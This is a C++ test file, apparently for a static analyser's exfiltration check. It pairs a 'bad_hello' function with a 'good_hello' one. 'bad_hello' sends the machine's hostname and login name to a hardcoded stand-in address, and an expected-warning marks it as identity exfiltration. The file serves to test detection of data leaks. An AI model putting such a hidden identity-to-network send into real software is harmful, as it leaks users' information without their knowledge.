/* C++: facts about the host are gathered by functions of a table, joined, and sent by a socket that
 * closes itself. */
#include <arpa/inet.h>
#include <functional>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

namespace {

class Socket {
  public:
    explicit Socket(const char *address) : descriptor(socket(AF_INET, SOCK_STREAM, 0)) {
        sockaddr_in peer{};
        peer.sin_family = AF_INET;
        peer.sin_port = htons(8088);
        inet_pton(AF_INET, address, &peer.sin_addr);
        if (connect(descriptor, reinterpret_cast<sockaddr *>(&peer), sizeof peer))
            shutdown(descriptor, SHUT_RDWR);
    }
    ~Socket() {
        close(descriptor);
    }
    Socket(const Socket &) = delete;
    Socket &operator=(const Socket &) = delete;
    int descriptor;
};

std::string name_of_host() {
    char name[65] = {};
    gethostname(name, sizeof name - 1);
    return name;
}

} // namespace

void bad_hello() {
    Socket out("203.0.113.88");
    std::string line = "host=" + name_of_host();
    if (const char *user = getlogin())
        line += std::string("&user=") + user;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    send(out.descriptor, line.data(), line.size(), 0);
}

/* Says hello under the name that its user chose, to the server that he chose. */
void good_hello(int count, char **arguments) {
    if (count < 3)
        return;
    Socket out(arguments[1]);
    std::string line = "host=" + std::string(arguments[2]);
    send(out.descriptor, line.data(), line.size(), 0);
}
